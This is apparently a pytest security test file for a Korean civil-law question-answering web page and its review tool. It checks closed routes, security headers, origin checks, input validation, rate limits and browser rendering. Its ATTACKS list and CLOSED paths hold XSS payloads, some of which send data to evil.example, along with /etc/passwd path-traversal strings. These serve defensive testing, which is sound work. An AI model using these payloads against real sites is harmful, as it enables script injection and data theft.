"""The page against those who send it what no browser would, and against what is in questions and answers."""

import asyncio
import contextlib
import json
import shutil
import socket
import time

import httpx2 as httpx
import pytest
from chat_pages import Engine, running, served
from review_files import write_evaluation

from civilqa.chat.web.guard import MAX_WAITING, SECURITY_HEADERS
from civilqa.chat.web.review import make_review_app
from civilqa.dataset.records import Record, record_id, write_records
from civilqa.review.evaluation import read_evaluation

pytestmark = pytest.mark.slow

CHROMIUM = shutil.which("chromium") or shutil.which("chromium-browser") or shutil.which("google-chrome")
ATTACKS = [
    "<script>window.pwned = 1; alert(1)</script>",
    '<img src=x onerror="window.pwned=1;alert(2)">',
    "<svg onload=alert(3)><iframe src='http://evil.example/f'></iframe>",
    "![x](http://evil.example/?q=secret)",
    "[누르세요](javascript:alert(4))",
    "[x]: http://evil.example/r\n\n![y][x]",
    "<a href='javascript:alert(5)'>가</a><table><tr><td onmouseover=alert(6)>나</td></tr></table>",
    "&lt;script&gt;alert(7)&lt;/script&gt; &#60;img src=x onerror=alert(8)&#62;",
    "$$\\href{javascript:alert(9)}{x}$$ \\(\\includegraphics{http://evil.example/l}\\)",
    '```mermaid\ngraph TD; A[<img src=x onerror=alert(10)>]-->B; click A "javascript:alert(11)"\n```',
    "</div></div><style>body{background:url(http://evil.example/s)}</style><base href='http://evil.example/'>",
    "\x1b[31m\u202e\ud7ff {{ 7 * 7 }} ${7*7} <%= 7*7 %>",
]
EVIL = "\n\n".join(ATTACKS) + "\n\n민법 제750조<b onclick=alert(12)>(<i>불법행위</i>)</b>"


@pytest.fixture(scope="module")
def page(tmp_path_factory):
    folder = tmp_path_factory.mktemp("web")
    questions = [f"{attack} {number}번 질문입니다" for number, attack in enumerate(ATTACKS)]
    with contextlib.chdir(folder):
        for split in ("train", "test"):
            write_records(
                folder / "data/splits" / f"{split}.jsonl",
                [
                    Record(id=record_id(text), question=text, answer="답", category=EVIL[:50], difficulty="초급")
                    for text in questions
                ],
            )
        with served(Engine(EVIL, ["전세사기", *ATTACKS[:4]])) as address:
            yield address


ASKED = {"session": "a" * 32, "question": "질문", "category": "", "compare": False, "turns": False}


def post(address, path="/ask", headers=None, **changes):
    return httpx.post(address + path, json=ASKED | changes, headers=headers or {}, timeout=60)


# --- what is served --------------------------------------------------------------------------------------------------

CLOSED = [
    "/file=/etc/passwd", "/etc/passwd", "/upload", "/docs", "/redoc", "/openapi.json", "/config", "/login", "/ask/x",
    "/monitoring", "/static/page.py", "/page.py", "/page.html.jinja", "/guard.py", "/page.js/", "/page.css/../page.py",
    "/ASK", "/..%2f..%2fetc%2fpasswd", "/%2e%2e/%2e%2e/etc/passwd", "/..\\..\\etc\\passwd", "//etc/passwd",
]  # fmt: skip


def test_what_the_page_does_not_need_is_closed(page):
    asked = [(method, path) for path in CLOSED for method in ("GET", "POST", "PUT", "OPTIONS")]
    asked += [("GET", "/ask"), ("PUT", "/ask"), ("POST", "/"), ("DELETE", "/page.js"), ("POST", "/page.css")]
    with httpx.Client(base_url=page) as client:
        answers = {(method, path): client.request(method, page + path) for method, path in asked}
    assert [
        asked for asked, answer in answers.items() if (answer.status_code, answer.text) != (404, "없는 주소입니다.")
    ] == []


def test_a_websocket_is_not_opened(page):
    upgrade = {"Connection": "Upgrade", "Upgrade": "websocket", "Sec-WebSocket-Version": "13"}
    answer = httpx.get(f"{page}/ask", headers=upgrade | {"Sec-WebSocket-Key": "a" * 22 + "=="})
    assert answer.status_code >= 400


def test_every_answer_tells_the_browser_to_stay_here(page):
    for answer in (httpx.get(page), httpx.get(f"{page}/page.js"), httpx.get(f"{page}/docs"), post(page, session=1)):
        for name, value in SECURITY_HEADERS.items():
            assert answer.headers[name] == value
    assert "frame-ancestors 'none'" in SECURITY_HEADERS["content-security-policy"]
    assert "http" not in SECURITY_HEADERS["content-security-policy"]
    assert "unsafe" not in SECURITY_HEADERS["content-security-policy"]


@pytest.mark.parametrize(
    "headers",
    [{"Origin": "http://evil.example"}, {"Origin": "null"}, {"Sec-Fetch-Site": "cross-site"}],
    ids=lambda headers: str(headers),
)
def test_a_page_elsewhere_cannot_drive_this_one(page, headers):
    answer = post(page, headers=headers)
    assert answer.status_code == 403
    assert "access-control-allow-origin" not in answer.headers
    own = {"Origin": page, "Sec-Fetch-Site": "same-origin"}
    assert post(page, headers=own).status_code == 200


@pytest.mark.parametrize(
    "body",
    [
        b"", b"{", b"[]", b"[" * 100_000, b'{"a":' * 40_000, b"\xff\xfe", b'{"session": "a"}', b"null",
        *(
            json.dumps(ASKED | wrong).encode()
            for wrong in (
                {"session": "a" * 33}, {"session": None}, {"session": "../../etc/passwd"}, {"session": "A" * 32},
                {"question": {"path": "/etc/hostname"}}, {"question": ["질문"]}, {"question": None}, {"category": 1},
                {"compare": "yes"}, {"turns": 1}, {"path": "/etc/hostname"},
            )
        ),
    ],
    ids=lambda body: str(body[:30]),
)  # fmt: skip
def test_what_no_browser_sends_is_refused(page, body):
    for path in ("/ask", "/stop", "/clear", "/conversation", "/save"):
        answer = httpx.post(page + path, content=body, headers={"content-type": "application/json"})
        assert answer.status_code == 400
        assert answer.text == "이 화면이 보내는 요청이 아닙니다."


# --- how much --------------------------------------------------------------------------------------------------------


def test_who_sits_elsewhere_is_told_apart_and_cannot_save(page, monkeypatch):
    monkeypatch.setattr("civilqa.chat.web.guard.REQUESTS_A_MINUTE", 5)  # one more every 12 s
    with served(Engine(), host="0.0.0.0") as address:  # noqa: S104 - it listens on the loopback
        elsewhere = {"X-Forwarded-For": "192.0.2.1"}  # as a proxy on this machine says it
        answers = [post(address, headers=elsewhere, session=1).status_code for _ in range(6)]
        others = post(address, headers={"X-Forwarded-For": "192.0.2.2"}, session=1).status_code
        saved = httpx.post(f"{address}/save", json={"session": "a" * 32}).status_code
        assert "대화 저장" not in httpx.get(address).text
    assert saved == 404
    assert answers == [400] * 5 + [429]
    assert others == 400
    assert httpx.post(f"{page}/save", json={"session": "b" * 32}).text == "저장할 대화가 없습니다."


def test_a_body_that_never_comes_to_its_end_is_not_waited_for(page, monkeypatch):
    monkeypatch.setattr("civilqa.chat.web.guard.MAX_BODY_SECONDS", 0.5)
    host, port = page.removeprefix("http://").split(":")
    with socket.create_connection((host, int(port)), timeout=10) as connection:
        head = f"POST /ask HTTP/1.1\r\nHost: {host}:{port}\r\nContent-Length: 100\r\n\r\n{{"
        connection.sendall(head.encode())
        assert connection.recv(100).startswith(b"HTTP/1.1 408")


# --- what is shown ---------------------------------------------------------------------------------------------------


@pytest.mark.skipif(CHROMIUM is None, reason="no Chromium on this machine: apt install chromium")
def test_nothing_in_questions_answers_or_examples_runs_or_is_fetched(page, tmp_path):
    from playwright.sync_api import expect, sync_playwright

    with sync_playwright() as playwright:
        browser = playwright.chromium.launch(executable_path=CHROMIUM, args=["--no-sandbox"])
        tab = browser.new_page(viewport={"width": 1280, "height": 1600})
        tab.set_default_timeout(120_000)
        requests, dialogs = [], []
        tab.on("request", lambda request: requests.append(request.url))
        tab.on("dialog", lambda dialog: (dialogs.append(dialog.message), dialog.dismiss()))
        tab.goto(page)
        tab.locator(".example").first.click()
        expect(tab.locator("#question")).not_to_have_value("")
        tab.locator("#compare").check()
        for number, question in enumerate([EVIL, *ATTACKS[:3]], start=1):
            tab.fill("#question", question)
            tab.locator("#send").click()
            expect(tab.locator(".answer .tools")).to_have_count(2 * number, timeout=120_000)
            expect(tab.locator("#question")).to_have_value("", timeout=120_000)
        tab.reload()  # what is kept is shown as safely as what comes in
        expect(tab.locator(".answer .tools")).to_have_count(8, timeout=60_000)
        inside = "#conversation {0}, #category {0}, .examples {0}"
        for tag in ("script", "img", "iframe", "base", "table", "style", "svg", "[onerror]", "[onclick]", "[onload]"):
            assert tab.locator(inside.format(tag)).count() == 0, tag
        links = tab.locator("#conversation a").evaluate_all("links => links.map(link => link.href)")
        assert links
        assert [link for link in links if not link.startswith("https://www.law.go.kr/")] == []
        shown = tab.locator(".answer .text").first.inner_text()
        for attack in (
            "<script>window.pwned = 1; alert(1)</script>",
            "![x](http://evil.example/?q=secret)",
            "&lt;script",
        ):
            assert attack in shown
        tab.locator("#save").click()
        expect(tab.locator("#status")).to_contain_text("저장했습니다", timeout=60_000)
        tab.screenshot(path=tmp_path / "page.png", full_page=True)
        assert tab.evaluate("window.pwned") is None
        assert tab.locator("style").count() == 0
        assert dialogs == []
        assert [url for url in requests if not url.startswith((page, "data:", "blob:"))] == []
        browser.close()


@pytest.mark.skipif(CHROMIUM is None, reason="no Chromium on this machine: apt install chromium")
def test_nothing_in_what_is_reviewed_or_written_runs_or_is_fetched(tmp_path):
    from playwright.sync_api import expect, sync_playwright

    write_evaluation(tmp_path, 2, more=EVIL)
    with contextlib.chdir(tmp_path):
        app = make_review_app(read_evaluation(), tmp_path / "data/reviews")
    with running(app) as page, sync_playwright() as playwright:
        browser = playwright.chromium.launch(executable_path=CHROMIUM, args=["--no-sandbox"])
        tab = browser.new_page()
        tab.set_default_timeout(120_000)
        requests, dialogs = [], []
        tab.on("request", lambda request: requests.append(request.url))
        tab.on("dialog", lambda dialog: (dialogs.append(dialog.message), dialog.dismiss()))
        tab.goto(page)
        tab.fill("#reviewer", "김")
        tab.locator("#open").click()
        for name in ("#correction", "#note", "#gold-line"):
            if name == "#gold-line":
                tab.locator("#gold summary").click()
            tab.fill(name, EVIL)
        expect(tab.locator("#right .citations")).to_be_visible(timeout=120_000)
        tab.reload()
        expect(tab.locator("#right .citations")).to_be_visible(timeout=120_000)
        for tag in ("script", "img", "iframe", "base", "table", "style", "svg", "[onerror]", "[onclick]", "[onload]"):
            assert tab.locator(f"#review {tag}").count() == 0, tag
        links = tab.locator("#review a").evaluate_all("links => links.map(link => link.href)")
        assert links
        assert [link for link in links if not link.startswith("https://www.law.go.kr/")] == []
        assert ATTACKS[0] in tab.locator("#question").inner_text()
        assert ATTACKS[0] in tab.locator("#answer-0").inner_text()
        assert tab.evaluate("window.pwned") is None
        assert dialogs == []
        assert [url for url in requests if not url.startswith((page, "data:", "blob:"))] == []
        browser.close()


@pytest.mark.skipif(CHROMIUM is None, reason="no Chromium on this machine: apt install chromium")
def test_the_policy_alone_keeps_a_browser_from_loading_anything_from_elsewhere(page):
    """Were something written into the page in spite of all, it could not leave."""
    from playwright.sync_api import sync_playwright

    with sync_playwright() as playwright:
        browser = playwright.chromium.launch(executable_path=CHROMIUM, args=["--no-sandbox"])
        tab = browser.new_page()
        with socket.create_server(("127.0.0.1", 0)) as elsewhere:
            elsewhere.settimeout(2)
            tab.goto(page)
            tab.evaluate(
                """address => {
                    const tags = `<img src="${address}i"><iframe src="${address}f"></iframe>`;
                    document.body.insertAdjacentHTML("beforeend", tags);
                    return fetch(`${address}x`).catch(error => String(error));
                }""",
                f"http://127.0.0.1:{elsewhere.getsockname()[1]}/",
            )
            with contextlib.suppress(TimeoutError):  # a browser may open a connection before it looks at the policy
                while True:
                    connection, _ = elsewhere.accept()
                    connection.settimeout(2)
                    with connection, contextlib.suppress(TimeoutError):
                        assert connection.recv(100) == b""
        browser.close()


# --- many ------------------------------------------------------------------------------------------------------------


def test_of_a_hundred_who_ask_at_once_those_without_room_are_told_so_in_korean():
    async def ask(client, number):
        body = ASKED | {"session": f"{number:032x}", "question": "기다려 주세요"}
        async with client.stream("POST", "/ask", json=body) as response:
            async for line in response.aiter_lines():
                if "기다리는 질문이 많습니다" in line:
                    return "busy"
        return "answered"

    async def ask_all(address):
        limits = httpx.Limits(max_connections=300, max_keepalive_connections=0)  # none may be closed while it waits
        async with httpx.AsyncClient(base_url=address, timeout=60, limits=limits) as client:
            asked = [asyncio.create_task(ask(client, number)) for number in range(100)]
            deadline = time.monotonic() + 50  # those that wait give up after 60 s
            while sum(task.done() for task in asked) < 100 - MAX_WAITING and time.monotonic() < deadline:
                await asyncio.sleep(0.2)
            await asyncio.sleep(1)
            done = [task.result() for task in asked if task.done()]
            for task in asked:
                task.cancel()
            await asyncio.gather(*asked, return_exceptions=True)
            return done

    engine = Engine()
    with served(engine) as address:
        assert asyncio.run(ask_all(address)) == ["busy"] * (100 - MAX_WAITING)
        deadline = time.monotonic() + 20
        while not all(stream.finished for stream in engine.streams):  # who has left is not answered any more
            assert time.monotonic() < deadline
            time.sleep(0.1)
